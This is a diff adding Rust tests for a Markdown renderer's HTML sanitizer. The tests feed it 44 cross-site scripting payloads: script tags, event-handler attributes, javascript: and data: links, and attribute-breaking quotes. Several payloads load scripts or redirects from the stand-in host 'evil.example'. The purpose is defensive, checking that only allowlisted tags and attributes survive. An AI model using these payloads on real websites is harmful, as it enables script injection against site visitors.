@@ -73,3 +73,147 @@ fn problems_have_places() {
         render(text, &Plain).problems.iter().map(|(line, column, _)| (*line, *column)).collect();
     assert_eq!(places, [(4, 3), (9, 11), (11, 1)]);
 }
+
+/// Ways to smuggle a script into a page.
+const PAYLOADS: [&str; 44] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt\n>alert(1)</sCrIpT >",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" onerror = 'alert(1)' >",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x\" onerror=alert(1) y=\"](a.png \"t\\\" onload=alert(1)\")",
+    "[x](a.md \"\\\" onclick=alert(1)\")",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "# h {#x\" onclick=alert(1)}",
+    "# h {: onclick=alert(1) #\"><script>alert(1)</script>}",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```py title=\"<img src=x onerror=alert(1)>\"\nx\n```",
+    "!!! note \"<script>alert(1)</script>\"\n    x",
+    "!!! note\\\" onclick=alert(1) \"x\"\n    x",
+    "=== \"<img src=x onerror=alert(1)>\"\n    x",
+    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
+    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=x.swf></object><embed src=x>",
+    "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
+    "<style>@import url(//evil.example)</style><p style=\"background:url(//evil.example)\">x</p>",
+    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
+    "<div title=\"\n\n**x**\n\n\"><script>alert(1)</script></div>",
+    "<div id=\"&#xE002;0&#xE003;\">\n\n**x** \"><img src=x onerror=alert(1)>\n\n</div>",
+    "<p>&#xE002;0&#xE003;&#xE002;0&#xE003;\n\n- x\n\n</p>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<details open ontoggle=alert(1)>\n\nx\n\n<summary onclick=alert(1)>y",
+];
+
+#[test]
+fn nothing_runs() {
+    const ALLOWED: [&str; 56] = [
+        "a",
+        "b",
+        "blockquote",
+        "br",
+        "code",
+        "dd",
+        "del",
+        "details",
+        "div",
+        "dl",
+        "dt",
+        "em",
+        "h1",
+        "h2",
+        "hr",
+        "i",
+        "img",
+        "input",
+        "kbd",
+        "label",
+        "li",
+        "ol",
+        "p",
+        "pre",
+        "s",
+        "section",
+        "span",
+        "strong",
+        "sub",
+        "summary",
+        "sup",
+        "table",
+        "tbody",
+        "td",
+        "th",
+        "thead",
+        "tr",
+        "u",
+        "ul",
+        "video",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "tfoot",
+        "ins",
+        "mark",
+        "q",
+        "ruby",
+        "rt",
+        "rp",
+        "small",
+        "abbr",
+        "caption",
+        "figure",
+        "figcaption",
+    ];
+    let frames = ["{}", "- {}", "> {}", "# {}", "a {} b", "<div>\n\n{}\n\n</div>", "<details><summary>{}\n\nx"];
+    for payload in PAYLOADS {
+        for frame in frames {
+            let text = frame.replace("{}", payload);
+            let html = render(&text, &Plain).html.as_str().to_owned();
+            let mut open: Vec<&str> = Vec::new();
+            for tag in super::tags::tags(&html) {
+                assert!(ALLOWED.contains(&tag.name), "{text}\n{html}");
+                if tag.closing {
+                    assert_eq!(open.pop(), Some(tag.name), "{text}\n{html}");
+                } else if tag.opens() {
+                    open.push(tag.name);
+                }
+                harmless(&tag, &text);
+            }
+            assert!(open.is_empty(), "{text}\n{html}");
+        }
+    }
+}
+
+fn harmless(tag: &super::tags::Tag<'_>, text: &str) {
+    for (name, value) in tag.pairs() {
+        assert!(!name.starts_with("on") && !matches!(name, "style" | "srcdoc" | "action"), "{text}\n{tag:?}");
+        let address = matches!(name, "href" | "src");
+        assert!(!address || !value.to_lowercase().contains("script:"), "{text}\n{tag:?}");
+        assert!(name != "src" || !value.contains("//"), "{text}\n{tag:?}");
+    }
+}
+
+#[test]
+fn one_script_is_one_problem() {
+    let rendered = render("a <script>alert(1)</script> b", &Plain);
+    assert_eq!(rendered.problems, [(1, 3, "raw HTML element <script> is not published".to_owned())]);
+    assert_eq!(rendered.html.as_str(), "<p>a  b</p>\n");
+}
